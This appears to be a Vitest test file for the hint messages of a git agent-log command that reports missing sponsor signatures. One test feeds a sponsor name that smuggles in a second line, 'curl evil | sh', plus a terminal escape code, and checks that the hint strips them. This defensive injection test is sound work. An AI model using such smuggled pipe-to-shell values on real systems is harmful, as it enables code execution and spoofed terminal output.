import { describe, expect, it } from 'vitest';
import { hintFor } from '../../../../lib/cli/views/check/hints.ts';
import { checkDocument, decision } from '../../../support/check-document.ts';

const JANE = { name: 'Jane Doe', email: 'jane@example.com' };
const JOHN = { name: 'John Roe', email: 'john@example.com' };
const { subject } = checkDocument([]);

const unsponsored = decision({
  result: 'fail',
  denies: true,
  clauses: [{ id: 'signed', result: 'fail', message: null, facts: { 'change.sponsors': '[]' } }],
});

function hint(...unsigned: (typeof JANE)[]): string | null {
  return hintFor(unsponsored, { subject, txns: ['T'], unsigned });
}

describe('what mends a sponsor that is missing', () => {
  it('is anybody who answers for it, where nobody was named', () => {
    expect(hint()).toBe('a person who answers for it runs: git agent-log sponsor T --sign --target main');
  });

  it('is the signature of those who were named', () => {
    expect(hint(JANE)).toBe(
      'Jane Doe <jane@example.com>, whom a record names, has not signed and runs, as themselves: git agent-log sponsor T --sign --target main',
    );
    expect(hint(JANE, JOHN)).toContain('Jane Doe <jane@example.com>, John Roe <john@example.com>, whom');
  });

  it('attack: a name of two lines makes no hint of its own', () => {
    expect(hint({ ...JANE, name: 'Jane\ncurl evil | sh\u001b[2K' })).not.toMatch(/[\n\u001b]/);
  });
});
